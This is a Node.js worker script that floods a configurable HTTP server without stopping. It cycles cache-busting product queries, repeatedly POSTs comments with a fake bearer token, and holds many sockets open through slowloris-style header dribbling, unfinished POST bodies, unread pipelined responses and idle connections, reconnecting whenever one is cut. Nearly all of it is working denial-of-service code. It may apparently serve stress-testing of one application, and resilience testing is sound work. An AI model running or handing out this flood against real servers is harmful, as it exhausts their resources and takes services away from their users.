// A client that floods a server from an address of its own, in a thread of its own: until it is ended, as fast as it can.

import http from 'node:http';
import net from 'node:net';
import { workerData } from 'node:worker_threads';

const { url, kind, product, connections, localAddress } = workerData;
const { hostname: host, port } = new URL(url);
const agent = new http.Agent({ keepAlive: true, maxSockets: connections, localAddress });

let asked = 0;
/** Another question each time, so that no cache has its answer. */
const questions = {
  dear: (n) => `/products/${product}?limit=100&sort=${n % 2 ? 'rating' : '-rating'}&rating=${1 + n % 4}&rating=5&language=en&language=de&skip=${(n * 7919) % 15_000}`,
  find: (n) => `/?find=product-${n.toString(36)}`,
};

const ask = (path, options = {}, body = '') => new Promise((done) => {
  const request = http.request({ host, port, path, agent, ...options }, (response) => response.resume().on('close', done));
  request.on('error', () => setTimeout(done, 10));
  request.end(body);
});

async function askOnAndOn() {
  for (;;) await ask(questions[kind](++asked));
}

const wrongToken = { method: 'POST', headers: { authorization: `Bearer ${'0'.repeat(64)}`, 'content-type': 'application/json' } };
async function guessOnAndOn() {
  for (;;) await ask(`/v1/products/${product}/comments`, wrongToken, '{"rating":5,"text":"x"}');
}

/** Sends `bytes`, and `more` every 100 ms, reads nothing if so asked, and begins again where it is cut off. */
function hold(bytes, { more = '', reads = true } = {}) {
  const socket = net.connect({ host, port, localAddress });
  const timer = more && setInterval(() => socket.write(more), 100);
  socket.on('connect', () => socket.write(bytes));
  if (reads) socket.resume();
  socket.on('error', () => {});
  socket.on('close', () => { clearInterval(timer); setTimeout(hold, 50, bytes, { more, reads }); });
}

const unfinished = (path, length, type) => `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: ${type}\r\nContent-Length: ${length}\r\n\r\n${'x'.repeat(length - 1)}`;
const held = {
  forms: () => hold(unfinished('/moderation/session', 16 * 1024, 'application/x-www-form-urlencoded')),
  bodies: () => hold(unfinished(`/v1/products/${product}/comments`, 256 * 1024, 'application/json')),
  announced: () => hold(`POST /moderation/session HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 16384\r\n\r\n`),
  headers: () => hold(`GET / HTTP/1.1\r\nHost: ${host}\r\n`, { more: 'X-More: 1\r\n' }),
  unread: () => hold(`GET /products/${product}?limit=100 HTTP/1.1\r\nHost: ${host}\r\n\r\n`.repeat(20), { reads: false }),
  idle: () => hold(''),
};

const work = held[kind] ?? (kind === 'tokens' ? guessOnAndOn : askOnAndOn);
for (let n = 0; n < connections; ++n) work();
